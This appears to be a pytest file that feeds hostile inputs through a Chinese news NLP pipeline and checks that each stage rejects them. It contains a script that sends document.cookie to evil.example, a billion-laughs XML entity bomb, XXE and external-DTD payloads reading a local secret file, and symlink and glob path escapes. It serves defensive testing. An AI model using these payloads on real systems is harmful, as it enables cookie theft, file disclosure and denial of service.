"""Hostile news content through the stage commands, end to end.

Every case is a real file in a throw-away project, read by `python -m pipeline ingest S` and then
normalise, segment, ner and sentiment, each run as its own process exactly as dvc.yaml runs it. The
cases are batched into four sources (one per format that needs them) that go through all five
stages, plus a few sources that only ingest (all-bad, outside the project, through a symlink), so
the models load a handful of times; the stages of different sources run in parallel.

Each test then checks one case: the stage exited 0 for the good records, the bad record is in that
stage's rejects file with its specific reason, and (test_every_stage_balances) in = out + rejected
for every stage that ran. Adapter-level details are in test_sources.py / test_ingest.py.
"""

from __future__ import annotations

import itertools
import json
import os
import subprocess
import sys
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pyarrow.parquet as pq
import pytest
from spacy.vocab import Vocab

from pipeline.docstore import iter_docs
from tests.conftest import REPO, SIMPLIFIED, TRADITIONAL
from tests.dvc_helpers import read_params, write_params

SECRET = "SECRET-7c1f0e-do-not-leak"
POINTED = "POINTED-FEED-9b2d-do-not-read"
SCRIPT_MARKERS = ("SCRIPT-MARKER-a", "SCRIPT-MARKER-b", "ONERROR-MARKER", "STYLE-MARKER")
GIANT_BYTES = 20 * 1024 * 1024
FULL_CHAIN = ("texts", "wire", "pages", "feeds")
INGEST_ONLY = ("allbad", "outside", "outside_ok", "linked", "linked_ok", "escape")
STAGES = ("ingest", "normalise", "segment", "ner", "sentiment")

# Written for this project: short news sentences naming companies, so that every good article has
# entity and sentiment rows.
TENCENT = "腾讯股价今日大涨，市场普遍看好其游戏业务前景。"
MEITUAN = "美团外卖业务表现强劲，但补贴竞争令利润承压。"


@dataclass
class Run:
    code: int
    stdout: str
    stderr: str
    cpu_seconds: float
    max_rss_mb: float


@dataclass
class Hostile:
    base: Path
    root: Path
    runs: dict[tuple[str, str], Run]

    def run(self, stage: str, source: str) -> Run:
        return self.runs[(stage, source)]

    def rejects(self, stage: str, source: str) -> list[dict[str, Any]]:
        folder = {"ingest": "ingested", "normalise": "normalised", "segment": "segmented"}[stage]
        path = self.root / "data" / folder / f"{source}.rejects.jsonl"
        return [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines() if line.strip()]

    def reason(self, stage: str, source: str, origin_suffix: str) -> str:
        found = [r["reason"] for r in self.rejects(stage, source) if r["origin"].endswith(origin_suffix)]
        assert len(found) == 1, f"{origin_suffix}: rejects {found} in {self.rejects(stage, source)}"
        return found[0]

    def metrics(self, stage: str, source: str) -> dict[str, Any]:
        return json.loads((self.root / "metrics" / stage / f"{source}.json").read_text(encoding="utf-8"))

    def rows(self, folder: str, source: str) -> list[dict[str, Any]]:
        return pq.read_table(self.root / "data" / folder / f"{source}.parquet").to_pylist()

    def article(self, folder: str, source: str, doc_id: str) -> dict[str, Any]:
        found = [r for r in self.rows(folder, source) if r["doc_id"] == doc_id]
        assert len(found) == 1, f"{doc_id} in {folder}/{source}: {len(found)} rows"
        return found[0]

    def segmented_ids(self, source: str) -> list[str]:
        return [d.user_data["doc_id"] for d in iter_docs(self.root / "data" / "segmented" / source, Vocab())]

    def ids(self, folder: str, source: str) -> set[str]:
        return {r["doc_id"] for r in self.rows(folder, source)}


# --- the hostile files --------------------------------------------------------------------------

def _rss(items: str, encoding: str = "UTF-8", doctype: str = "") -> str:
    return (f'<?xml version="1.0" encoding="{encoding}"?>\n{doctype}'
            '<rss version="2.0"><channel><title>港經日報</title><link>https://gj.example/</link>'
            f"<description>財經</description>{items}</channel></rss>")


def _item(guid: str, title: str, text: str) -> str:
    return f"<item><title>{title}</title><guid>{guid}</guid><description>{text}</description></item>"


BOMB_DOCTYPE = """<!DOCTYPE rss [
<!ENTITY a "哈哈哈哈哈哈哈哈哈哈">
<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">
<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">
<!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">
<!ENTITY e "&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;">
<!ENTITY f "&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;">
<!ENTITY g "&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;">
<!ENTITY h "&g;&g;&g;&g;&g;&g;&g;&g;&g;&g;">
]>
"""

PAGE = """<!DOCTYPE html>
<html lang="zh-CN"><head><meta charset="utf-8"><title>{title}</title>
<script>var leak = "SCRIPT-MARKER-a"; document.write("SCRIPT-MARKER-a");</script>
<style>body::after {{ content: "STYLE-MARKER"; }}</style></head>
<body><nav><a href="/">首页</a> &gt; <a href="/tech">科技</a></nav>
<article><h1>{title}</h1>
<p>{p1}</p><script>fetch("https://evil.example/?" + document.cookie); "SCRIPT-MARKER-b"</script>
<p>{p2}<img src="x.png" onerror="alert('ONERROR-MARKER')"></p>
<p>{p3}</p></article></body></html>"""


def _write_sources(base: Path, root: Path) -> dict[str, Any]:
    private = base / "private"  # outside the project: must never be read
    private.mkdir()
    (private / "secret.txt").write_text(f"{SECRET}\n京东物流第三季度亏损扩大。\n", encoding="utf-8")
    (private / "feed.xml").write_text(_rss(_item("p1", "私有", f"{POINTED} 腾讯股价上涨。")), encoding="utf-8")
    (private / "a.txt").write_text(SIMPLIFIED, encoding="utf-8")
    (private / "evil.dtd").write_text(f'<!ENTITY secret SYSTEM "file://{private / "secret.txt"}">', encoding="utf-8")

    src = root / "data" / "sources"

    texts = src / "texts"
    texts.mkdir(parents=True)
    (texts / "gb18030.txt").write_bytes(("京东拼多多季报\n\n" + SIMPLIFIED).encode("gb18030"))
    (texts / "big5.txt").write_bytes(TRADITIONAL.encode("big5"))
    (texts / "utf16le.txt").write_bytes((MEITUAN + SIMPLIFIED).encode("utf-16-le"))
    (texts / "utf16be.txt").write_bytes((TENCENT + TRADITIONAL).encode("utf-16-be"))
    (texts / "undecodable.txt").write_bytes(bytes([0xC0, 0xC1, 0xF5, 0xF8, 0xFB, 0xFE, 0xFF, 0x80]) * 64)
    (texts / "empty.txt").write_bytes(b"")
    (texts / "blank.txt").write_text(" \n\u3000\u3000\n\t\r\n\u00a0 ", encoding="utf-8")
    (texts / "chart.png").write_bytes(
        b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x10\x00\x00\x00\x10\x08\x02\x00\x00\x00\x90wS\xde"
        + bytes(range(256)) * 8
    )
    line = (SIMPLIFIED + "\n").encode("utf-8")
    (texts / "giant.txt").write_bytes(line * (GIANT_BYTES // len(line) + 1))
    (texts / "control.txt").write_text(
        "阿\u200b里\u200d巴\u2060巴\ufeff股价\x01上涨\x1b[31m，\u202e京东\ue000物流\x7f表现强劲\U000f0001。\n"
        "腾讯\x08\x0b\x0c股价小幅下跌。", encoding="utf-8")
    (texts / "invisible.txt").write_text("\u200b\u200c\u200d\u2060\ufeff\ue000\U000f0000\x01\x1b", encoding="utf-8")
    (texts / "boilerplate.txt").write_text("版权所有 © 2026 某某网\n责任编辑：张三\n分享到：微信 微博",
                                           encoding="utf-8")
    (texts / "emoji.txt").write_text(
        "腾讯股价大涨🚀🚀，网友点赞👍🏽！阿里巴巴表现稳健📈，👨‍👩‍👧 家庭用户增长，🇨🇳 市场前景乐观😀。",
        encoding="utf-8")
    (texts / "mixed.txt").write_text(
        "騰訊 Tencent 與阿里巴巴 Alibaba 股价齐涨。騰訊總裁表示 WeChat Pay 业务增长强劲，"
        "阿里巴巴的 Taobao 平台表現亦佳。騰訊客服稱，用户 ID 与 case number 会一并记录在 ORG 系统。",
        encoding="utf-8")
    (texts / "x1.txt").write_text("拼多多营收大增，市场反应积极。" + SIMPLIFIED, encoding="utf-8")
    # A file name that is not UTF-8 (a GBK name, as unpacked from a zip made on Windows).
    (texts / os.fsdecode("新闻".encode("gb18030") + b".txt")).write_text(TENCENT, encoding="utf-8")
    # A symlink inside the source folder to a file outside the project.
    os.symlink(private / "secret.txt", texts / "steal.txt")

    wire = src / "wire"
    wire.mkdir()

    def j(obj: dict[str, Any]) -> bytes:
        return json.dumps(obj, ensure_ascii=False).encode("utf-8")

    lines = [
        j({"id": "w1", "title": "京东物流", "text": SIMPLIFIED, "published_at": "2026-10-05 09:30"}),
        b'{"id": "w-broken", "title": "\xe5\x9d\x8f", "text": "\xe6\x9c\xaa\xe7\xbb\x93\xe6\x9d\x9f',
        j({"id": "w-missing", "title": "无正文"}),
        j({"id": "w-null", "text": None}),
        j({"id": "w2", "text": TRADITIONAL}),
        j({"id": "w1", "text": "重复的编号：" + MEITUAN}),
        j({"id": "x1", "text": TENCENT + MEITUAN}),
        b"[" * 100_000,
        b'{"id": "w-surrogate", "text": "\\u4eac\\u4e1c\\ud800\\u7269\\u6d41"}',
        b'{"id": "w-bigint", "text": "ok", "n": ' + b"9" * 5000 + b"}",
        b'{"id": "w-ctrl", "text": "\\u7f8e\\u56e2\\u0000\\u5916\\u5356\\u0007' + MEITUAN.encode() + b'\\u001b[0m"}',
    ]
    (wire / "articles.jsonl").write_bytes(b"\n".join(lines) + b"\n")

    pages = src / "pages"
    pages.mkdir()
    (pages / "good.html").write_text(PAGE.format(
        title="腾讯发布新款游戏", p1=TENCENT, p2="分析师认为，腾讯的云业务增长强劲，利润率明显改善。",
        p3="不过，也有人士提醒，监管环境仍存在不确定性。"), encoding="utf-8")
    (pages / "nobody.html").write_text("<html><head><title>空页</title></head></html>", encoding="utf-8")
    (pages / "emptybody.html").write_text(
        "<html><head><title>空页</title><script>var x = 1;</script></head><body>\n</body></html>", encoding="utf-8")
    (pages / "xxe.html").write_text(
        f'<?xml version="1.0"?>\n<!DOCTYPE html [<!ENTITY s SYSTEM "file://{private / "secret.txt"}">]>\n'
        f"<html><head><title>外部实体</title></head><body><article><h1>外部实体</h1><p>&s;</p>"
        f"<p>{MEITUAN}</p><p>{SIMPLIFIED}</p></article></body></html>", encoding="utf-8")
    para = f"<p>{SIMPLIFIED}</p>\n".encode()
    (pages / "giant.html").write_bytes(
        b"<html><head><title>x</title></head><body><article>" + para * (GIANT_BYTES // len(para) + 1)
        + b"</article></body></html>")

    feeds = src / "feeds"
    feeds.mkdir()
    (feeds / "good.xml").write_text(_rss(
        _item("gj-1", "騰訊業績勝預期", "騰訊第三季度收入按年增長百分之十五，遊戲業務表現強勁。")
        + _item("gj-2", "美團股價下跌", "美團股價今日下跌，市場憂慮外賣業務競爭加劇。")), encoding="utf-8")
    (feeds / "bomb.xml").write_text(_rss(_item("b1", "炸彈", "京东 &h;"), doctype=BOMB_DOCTYPE), encoding="utf-8")
    (feeds / "bomb-utf32.xml").write_bytes(
        _rss(_item("b2", "炸彈", "京东 &h;"), encoding="UTF-32", doctype=BOMB_DOCTYPE).encode("utf-32"))
    (feeds / "xxe.xml").write_text(_rss(
        _item("x1", "外部", "京东 &secret; 拼多多"),
        doctype=f'<!DOCTYPE rss [<!ENTITY secret SYSTEM "file://{private / "secret.txt"}">]>\n'), encoding="utf-8")
    # An external DTD (RSS 0.91 feeds name one) that would define the entity: accepted, never loaded.
    (feeds / "extdtd.xml").write_text(_rss(
        _item("dtd-1", "外部DTD", "京东 &secret; 拼多多营收大增。"),
        doctype=f'<!DOCTYPE rss SYSTEM "file://{private / "evil.dtd"}">\n'), encoding="utf-8")
    # A "feed" whose bytes are the path of a feed outside the project.
    (feeds / "pointer.xml").write_bytes(os.fsencode(private / "feed.xml"))
    # Chinese feeds declare legacy encodings; the HK one holds HKSCS characters (嘅, 啲).
    (feeds / "gb.xml").write_bytes(_rss(_item("gb-1", "京东", SIMPLIFIED), encoding="GB18030").encode("gb18030"))
    (feeds / "hk.xml").write_bytes(_rss(
        _item("hk-1", "騰訊", "騰訊嘅業績好過預期，啲投資者都好開心。港股收市時恆指上升。"),
        encoding="Big5").encode("big5hkscs"))
    (feeds / "charref.xml").write_text(
        _rss(_item("c1", "坏字符", "京东物流 &#xD800; 营收 <b>未闭合")).replace("</channel>", ""), encoding="utf-8")

    allbad = src / "allbad"
    allbad.mkdir()
    (allbad / "a.txt").write_bytes(b"")
    (allbad / "b.png").write_bytes(b"\x89PNG\r\n\x1a\n\x00\x00\x00")
    (allbad / "c.txt").write_text("  \n ", encoding="utf-8")

    real = src / "real"
    real.mkdir()
    (real / "r1.txt").write_text(TENCENT, encoding="utf-8")
    os.symlink(real, src / "linked")

    return {
        "texts": {"format": "text", "path": "data/sources/texts"},
        "wire": {"format": "jsonl", "path": "data/sources/wire/articles.jsonl"},
        "pages": {"format": "html", "path": "data/sources/pages"},
        "feeds": {"format": "feed", "path": "data/sources/feeds"},
        "allbad": {"format": "text", "path": "data/sources/allbad"},
        "outside": {"format": "text", "path": str(private), "glob": "a.txt"},
        "outside_ok": {"format": "text", "path": str(private), "glob": "a.txt", "allow_outside": True},
        "linked": {"format": "text", "path": "data/sources/linked"},
        "linked_ok": {"format": "text", "path": "data/sources/linked", "allow_outside": True},
        # A glob that climbs out of the source folder to the private one.
        "escape": {"format": "text", "path": "data/sources/real", "glob": "../../../../private/*"},
    }


# --- running the stages ---------------------------------------------------------------------------

NETWORK_GUARD = """
import os
import socket

def _refuse(*args, **kwargs):
    with open(os.environ["NEWSLENS_TEST_NETLOG"], "a", encoding="utf-8") as fh:
        fh.write(repr(args[:2]) + "\\n")
    raise OSError("network access refused by the test's sitecustomize")

socket.socket.connect = socket.socket.connect_ex = _refuse
socket.getaddrinfo = socket.create_connection = _refuse
"""


def _guarded_env(base: Path, log: Path) -> dict[str, str]:
    """An environment whose Python processes refuse (and log to `log`) any connection or name lookup."""
    guard = base / "netguard"
    if not guard.exists():
        guard.mkdir()
        (guard / "sitecustomize.py").write_text(NETWORK_GUARD, encoding="utf-8")
    return dict(os.environ, PYTHONPATH=f"{guard}{os.pathsep}{REPO}", NEWSLENS_PROGRESS="0",
                NEWSLENS_TEST_NETLOG=str(log))


# Runs `python -m pipeline ...` and, at exit, writes the process's own peak resident memory (VmHWM, in
# kB) to the file named first. Not wait4's ru_maxrss: Linux carries the parent's peak over fork and
# exec, so a child of a pytest process that has loaded the models would report the models' memory.
_PEAK_WRAPPER = """
import atexit, runpy, sys
out = sys.argv.pop(1)
def peak():
    with open("/proc/self/status") as f, open(out, "w") as o:
        o.write(next(line.split()[1] for line in f if line.startswith("VmHWM:")))
atexit.register(peak)
sys.argv = ["pipeline", *sys.argv[1:]]
runpy.run_module("pipeline", run_name="__main__", alter_sys=True)
"""


def _run_parallel(root: Path, logs: Path, jobs: list[tuple[str, str]]) -> dict[tuple[str, str], Run]:
    env = _guarded_env(logs.parent, logs.parent / "network-attempts.log")
    started = []
    for stage, source in jobs:
        out = open(logs / f"{stage}.{source}.out", "w+", encoding="utf-8")  # noqa: SIM115
        err = open(logs / f"{stage}.{source}.err", "w+", encoding="utf-8")  # noqa: SIM115
        peak = logs / f"{stage}.{source}.peak"
        proc = subprocess.Popen([sys.executable, "-c", _PEAK_WRAPPER, str(peak), stage, source], cwd=root, env=env,
                                stdout=out, stderr=err)
        started.append((stage, source, proc, out, err))
    runs = {}
    for stage, source, proc, out, err in started:
        _, status, usage = os.wait4(proc.pid, 0)  # wait4 for this child's own CPU time
        proc.returncode = os.waitstatus_to_exitcode(status)
        out.seek(0)
        err.seek(0)
        peak_file = logs / f"{stage}.{source}.peak"
        peak_kb = float(peak_file.read_text()) if peak_file.exists() else float("nan")
        runs[(stage, source)] = Run(proc.returncode, out.read(), err.read(), usage.ru_utime + usage.ru_stime,
                                    peak_kb / 1024)
        out.close()
        err.close()
    return runs


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Hostile:
    base = tmp_path_factory.mktemp("hostile")
    root = base / "project"
    logs = base / "logs"
    (root / "models").mkdir(parents=True)
    logs.mkdir()
    # The built models are read, never written, by these stages: link them rather than copy 170 MB.
    os.symlink(REPO / "models" / "zh_pipeline", root / "models" / "zh_pipeline")
    params = read_params(REPO)
    params["sources"] = _write_sources(base, root)
    params["kb"]["path"] = str(REPO / "data" / "kb")
    params["lexicons"]["out_dir"] = str(REPO / "models" / "lexicons")
    write_params(root, params)

    runs = _run_parallel(root, logs, [("ingest", s) for s in (*FULL_CHAIN, *INGEST_ONLY)])
    for stage in STAGES[1:]:
        runs |= _run_parallel(root, logs, [(stage, s) for s in FULL_CHAIN])
    return Hostile(base, root, runs)


def _all_output_text(root: Path) -> str:
    """Everything the stages wrote, decoded (Parquet and DocBin are compressed, so bytes would not do)."""
    parts = []
    for path in sorted((root / "data").rglob("*")) + sorted((root / "metrics").rglob("*")):
        if "sources" in path.relative_to(root).parts or not path.is_file():
            continue
        if path.suffix == ".parquet":
            parts.append(json.dumps(pq.read_table(path).to_pylist(), ensure_ascii=False, default=str))
        elif path.suffix != ".spacy":
            parts.append(path.read_text(encoding="utf-8"))
    for folder in sorted((root / "data" / "segmented").iterdir()):
        if folder.is_dir():
            parts.extend(d.text for d in iter_docs(folder, Vocab()))
    return "\n".join(parts)


# --- the stages as a whole ------------------------------------------------------------------------

def test_full_chain_sources_exit_zero_at_every_stage(hostile: Hostile) -> None:
    for stage in STAGES:
        for source in FULL_CHAIN:
            run = hostile.run(stage, source)
            assert run.code == 0, f"{stage}@{source} exited {run.code}:\n{run.stderr[-3000:]}"
            assert "Traceback" not in run.stderr
            assert f"{stage}@{source}: in=" in run.stdout


def test_every_stage_balances(hostile: Hostile) -> None:
    ran = [(stage, source) for (stage, source), run in hostile.runs.items() if run.code == 0]
    assert len(ran) == len(STAGES) * len(FULL_CHAIN) + 2  # + outside_ok and linked_ok
    for stage, source in ran:
        m = hostile.metrics(stage, source)
        assert m["in"] == m["out"] + m["rejected"], f"{stage}@{source}: {m}"
        assert m["rejected"] == sum(m["rejected_by_reason"].values())
        if stage in ("ingest", "normalise", "segment"):
            assert len(hostile.rejects(stage, source)) == m["rejected"]
    # Each stage's input is the previous stage's output.
    for source in FULL_CHAIN:
        for before, after in itertools.pairwise(STAGES):
            assert hostile.metrics(after, source)["in"] == hostile.metrics(before, source)["out"]


def test_good_articles_flow_through_all_five_stages(hostile: Hostile) -> None:
    for source in FULL_CHAIN:
        ingested = hostile.ids("ingested", source)
        normalised = hostile.ids("normalised", source)
        assert ingested and normalised <= ingested
        assert hostile.segmented_ids(source) == [r["doc_id"] for r in hostile.rows("normalised", source)]
        # Every good article names a company, so each has entity and sentiment rows.
        entities = {r["doc_id"] for r in hostile.rows("entities", source) if r["company_id"]}
        sentiment = hostile.ids("sentiment", source)
        assert normalised == entities == sentiment, source
    assert hostile.ids("sentiment", "texts") >= {"texts:gb18030", "texts:big5", "texts:utf16le", "texts:utf16be",
                                                 "texts:control", "texts:emoji", "texts:mixed", "texts:x1"}
    assert hostile.ids("sentiment", "wire") == {"wire:w1", "wire:w2", "wire:x1", "wire:w-ctrl"}
    assert hostile.ids("sentiment", "pages") == {"pages:good", "pages:xxe"}
    assert hostile.ids("sentiment", "feeds") == {"feeds:gj-1", "feeds:gj-2", "feeds:gb-1", "feeds:hk-1", "feeds:dtd-1"}


# --- one test per case ----------------------------------------------------------------------------

def test_undecodable_bytes(hostile: Hostile) -> None:
    assert hostile.reason("ingest", "texts", "undecodable.txt") == "undecodable"


@pytest.mark.parametrize(("name", "encoding", "expected"), [
    ("gb18030", "gb18030", SIMPLIFIED),
    ("big5", "big5hkscs", TRADITIONAL),
    ("utf16le", "utf-16-le", MEITUAN + SIMPLIFIED),
    ("utf16be", "utf-16-be", TENCENT + TRADITIONAL),
])
def test_undeclared_encodings(hostile: Hostile, name: str, encoding: str, expected: str) -> None:
    row = hostile.article("ingested", "texts", f"texts:{name}")
    assert row["encoding"] == encoding
    assert row["text"].strip() == expected
    assert hostile.article("normalised", "texts", f"texts:{name}")["text_original"] == row["text"]
    assert f"texts:{name}" in hostile.ids("sentiment", "texts")


def test_big5_article_is_converted_and_quoted_in_traditional(hostile: Hostile) -> None:
    norm = hostile.article("normalised", "texts", "texts:big5")
    assert norm["script"] == "traditional"
    assert norm["text"].startswith("腾讯总裁刘炽平")
    evidence = [r["evidence_text"] for r in hostile.rows("sentiment", "texts") if r["doc_id"] == "texts:big5"]
    assert any("騰訊" in e or "港股" in e for e in evidence if e)


def test_empty_file(hostile: Hostile) -> None:
    assert hostile.reason("ingest", "texts", "empty.txt") == "empty_file"


def test_whitespace_only_article(hostile: Hostile) -> None:
    assert hostile.reason("ingest", "texts", "blank.txt") == "empty_text"


def test_png_in_text_folder(hostile: Hostile) -> None:
    assert hostile.reason("ingest", "texts", "chart.png") == "binary_content"


def test_jsonl_broken_line_among_good_ones(hostile: Hostile) -> None:
    rejects = hostile.rejects("ingest", "wire")
    assert [r["reason"] for r in rejects if r["origin"].endswith("articles.jsonl:2")] == ["invalid_json"]
    assert {"wire:w1", "wire:w2"} <= hostile.ids("ingested", "wire")


def test_jsonl_pathological_lines_cost_one_record_each(hostile: Hostile) -> None:
    """Nesting 100 000 deep (RecursionError), an integer of 5 000 digits (ValueError) and a lone
    surrogate escape (unwritable as UTF-8) each used to crash the whole stage."""
    reasons = {r["origin"].rsplit(":", 1)[1]: r["reason"] for r in hostile.rejects("ingest", "wire")}
    assert reasons["8"] == "invalid_json"
    assert reasons["9"] == "undecodable"
    assert reasons["10"] == "invalid_json"


@pytest.mark.parametrize(("line", "doc_id"), [("3", "w-missing"), ("4", "w-null")])
def test_missing_or_null_text(hostile: Hostile, line: str, doc_id: str) -> None:
    found = [r for r in hostile.rejects("ingest", "wire") if r["origin"].endswith(f":{line}")]
    assert [(r["reason"], r["doc_id"]) for r in found] == [("missing_text", doc_id)]


def test_duplicate_id_within_a_source(hostile: Hostile) -> None:
    found = [r for r in hostile.rejects("ingest", "wire") if r["reason"] == "duplicate_id"]
    assert [(r["doc_id"], r["origin"].rsplit(":", 1)[1]) for r in found] == [("wire:w1", "6")]
    assert hostile.article("ingested", "wire", "wire:w1")["text"] == SIMPLIFIED  # the first one is kept


def test_duplicate_id_across_sources_both_kept(hostile: Hostile) -> None:
    """Doc ids are namespaced by source: the same native id in two sources is two articles."""
    a = hostile.article("ingested", "texts", "texts:x1")
    b = hostile.article("ingested", "wire", "wire:x1")
    assert a["native_id"] == b["native_id"] == "x1"
    assert a["text"] != b["text"]
    for source in ("texts", "wire"):
        assert not any(r["doc_id"] in ("texts:x1", "wire:x1") for r in hostile.rejects("ingest", source))
    for stage_folder in ("normalised", "entities", "sentiment"):
        assert "texts:x1" in hostile.ids(stage_folder, "texts")
        assert "wire:x1" in hostile.ids(stage_folder, "wire")


def test_html_page_without_body(hostile: Hostile) -> None:
    assert hostile.reason("ingest", "pages", "nobody.html") == "no_main_text"
    assert hostile.reason("ingest", "pages", "emptybody.html") == "no_main_text"


def test_scripts_in_html_are_not_text(hostile: Hostile) -> None:
    text = hostile.article("ingested", "pages", "pages:good")["text"]
    assert TENCENT in text
    everything = _all_output_text(hostile.root)
    for marker in SCRIPT_MARKERS:
        assert marker not in everything
    assert "evil.example" not in everything


def test_rss_entity_bomb_is_not_expanded(hostile: Hostile) -> None:
    assert hostile.reason("ingest", "feeds", "bomb.xml") == "unsafe_xml"
    # The same bomb in UTF-32 used to pass the byte-level check.
    assert hostile.reason("ingest", "feeds", "bomb-utf32.xml") == "unsafe_xml"
    assert "哈哈哈哈哈哈哈哈哈哈" not in _all_output_text(hostile.root)
    assert hostile.run("ingest", "feeds").max_rss_mb < 500


def test_external_entities_are_not_fetched(hostile: Hostile) -> None:
    assert hostile.reason("ingest", "feeds", "xxe.xml") == "unsafe_xml"
    assert "pages:xxe" in hostile.ids("sentiment", "pages")  # an XHTML page's entity is left as text
    assert SECRET not in _all_output_text(hostile.root)
    for run in hostile.runs.values():
        assert SECRET not in run.stdout + run.stderr


def test_external_dtd_is_not_loaded(hostile: Hostile) -> None:
    text = hostile.article("ingested", "feeds", "feeds:dtd-1")["text"]
    assert text.startswith("京东 ") and text.endswith("拼多多营收大增。") and SECRET not in text


def test_no_network_during_any_stage(hostile: Hostile) -> None:
    """Every stage ran with socket connections and name lookups refused and logged (sitecustomize)."""
    assert not (hostile.base / "network-attempts.log").exists()
    # The guard is live in those processes: a connection attempt is refused and logged.
    probe = hostile.base / "probe.log"
    code = "import socket\ntry:\n    socket.create_connection(('example.com', 80))\nexcept OSError as e:\n    print(e)"
    out = subprocess.run([sys.executable, "-c", code], env=_guarded_env(hostile.base, probe),
                         capture_output=True, text=True, check=True).stdout
    assert "refused by the test" in out and "example.com" in probe.read_text(encoding="utf-8")


def test_feed_bytes_naming_a_local_file_are_not_followed(hostile: Hostile) -> None:
    """feedparser reads a file when handed bytes that are an existing path; the adapter gives it a stream."""
    assert hostile.reason("ingest", "feeds", "pointer.xml") == "feed_unparseable"
    assert POINTED not in _all_output_text(hostile.root)


def test_feeds_declaring_chinese_encodings(hostile: Hostile) -> None:
    """GB18030/Big5 declarations used to crash the stage (expat: multi-byte encodings are not supported)."""
    gb = hostile.article("ingested", "feeds", "feeds:gb-1")
    assert (gb["text"], gb["encoding"]) == (SIMPLIFIED, "gb18030")
    hk = hostile.article("ingested", "feeds", "feeds:hk-1")
    assert hk["text"].startswith("騰訊嘅業績好過預期，啲投資者") and hk["encoding"] == "big5hkscs"


def test_malformed_feed_with_surrogate_reference(hostile: Hostile) -> None:
    assert hostile.reason("ingest", "feeds", "charref.xml") == "feed_unparseable"


@pytest.mark.parametrize("name", ["giant.txt", "giant.html"])
def test_twenty_megabyte_article_is_too_long(hostile: Hostile, name: str) -> None:
    source = "texts" if name.endswith(".txt") else "pages"
    assert (hostile.root / "data" / "sources" / source / name).stat().st_size >= GIANT_BYTES
    found = [r for r in hostile.rejects("ingest", source) if r["origin"].endswith(name)]
    assert [r["reason"] for r in found] == ["too_long"]
    assert "ingest.max_chars=200000" in found[0]["detail"]
    # Quickly and without excessive memory: the whole ingest of the source (both giants are in
    # sources with a dozen other files), measured for that process alone. Before the html
    # adapter counted a page's text with lxml first, trafilatura took ~50 s and ~480 MB on it.
    run = hostile.run("ingest", source)
    assert run.cpu_seconds < 15, run.cpu_seconds
    assert run.max_rss_mb < 400, run.max_rss_mb


def test_control_zero_width_and_private_use_characters(hostile: Hostile) -> None:
    original = hostile.article("ingested", "texts", "texts:control")["text"]
    assert "\u200b" in original and "\x1b" in original  # kept as read: the original is evidence
    norm = hostile.article("normalised", "texts", "texts:control")
    for ch in "\x01\x08\x0b\x0c\x1b\x7f\u200b\u200d\u2060\ufeff\u202e\ue000\U000f0001":
        assert ch not in norm["text"], repr(ch)
    assert "阿里巴巴股价上涨" in norm["text"]
    companies = {r["company_id"] for r in hostile.rows("entities", "texts")
                 if r["doc_id"] == "texts:control" and r["company_id"]}
    assert {"alibaba", "tencent"} <= companies  # 阿\u200b里… still names Alibaba
    w = hostile.article("normalised", "wire", "wire:w-ctrl")["text"]
    assert "\x00" not in w and "\x07" not in w and w.startswith("美团外卖")
    # Nothing left at all: rejected by normalise, with the reason.
    assert hostile.reason("normalise", "texts", "invisible.txt") == "empty_after_normalisation"
    assert hostile.reason("normalise", "texts", "boilerplate.txt") == "empty_after_normalisation"


def test_emoji(hostile: Hostile) -> None:
    norm = hostile.article("normalised", "texts", "texts:emoji")["text"]
    for emoji in ("🚀", "👍🏽", "📈", "🇨🇳", "😀"):
        assert emoji in norm
    docs = {d.user_data["doc_id"]: d for d in iter_docs(hostile.root / "data" / "segmented" / "texts", Vocab())}
    assert docs["texts:emoji"].text == norm
    rows = [r for r in hostile.rows("sentiment", "texts") if r["doc_id"] == "texts:emoji" and r["level"] == "company"]
    assert {"tencent", "alibaba"} <= {r["company_id"] for r in rows}


def test_mixed_simplified_traditional_english(hostile: Hostile) -> None:
    norm = hostile.article("normalised", "texts", "texts:mixed")
    assert norm["script"] == "mixed"
    assert "腾讯 Tencent 与阿里巴巴 Alibaba" in norm["text"] and "WeChat Pay" in norm["text"]
    companies = {r["company_id"] for r in hostile.rows("entities", "texts")
                 if r["doc_id"] == "texts:mixed" and r["company_id"]}
    assert {"tencent", "alibaba"} <= companies
    # ID, case, number and ORG are also spaCy's reserved strings (their ORTH id is a symbol, not a
    # hash): the words must survive the DocBin round trip of segment -> ner -> sentiment.
    (doc,) = [d for d in iter_docs(hostile.root / "data" / "segmented" / "texts", Vocab())
              if d.user_data["doc_id"] == "texts:mixed"]
    assert {"ID", "case", "number", "ORG"} <= {t.text for t in doc}


def test_non_utf8_file_name(hostile: Hostile) -> None:
    """A GBK file name used to crash the stage when its id was written (lone surrogates)."""
    assert "texts:\\xd0\\xc2\\xce\\xc5" in hostile.ids("sentiment", "texts")


def test_symlink_inside_a_source_folder_is_rejected(hostile: Hostile) -> None:
    assert hostile.reason("ingest", "texts", "steal.txt") == "unsafe_path"
    assert SECRET not in _all_output_text(hostile.root)


def test_glob_cannot_climb_out_of_the_source(hostile: Hostile) -> None:
    run = hostile.run("ingest", "escape")
    assert run.code == 1
    assert "ingest@escape: all 4 records were rejected; first reasons: unsafe_path" in run.stderr
    assert "allow_outside" in run.stderr


def test_all_bad_source_fails_with_one_clear_message(hostile: Hostile) -> None:
    run = hostile.run("ingest", "allbad")
    assert run.code != 0
    assert "Traceback" not in run.stderr
    lines = [line for line in run.stderr.splitlines() if line.strip()]
    assert len(lines) == 1, run.stderr
    assert lines[0].startswith("error: ingest@allbad: all 3 records were rejected; first reasons: ")
    for reason in ("empty_file", "binary_content", "empty_text"):
        assert reason in lines[0]


@pytest.mark.parametrize(("source", "words"), [("outside", "outside the project"), ("linked", "symlink")])
def test_source_path_outside_or_through_symlink(hostile: Hostile, source: str, words: str) -> None:
    refused = hostile.run("ingest", source)
    assert refused.code == 2
    assert "Traceback" not in refused.stderr
    assert refused.stderr.startswith(f"error: source {source!r}: path ")
    assert words in refused.stderr and "allow_outside: true" in refused.stderr
    assert not (hostile.root / "data" / "ingested" / f"{source}.parquet").exists()
    allowed = hostile.run("ingest", f"{source}_ok")
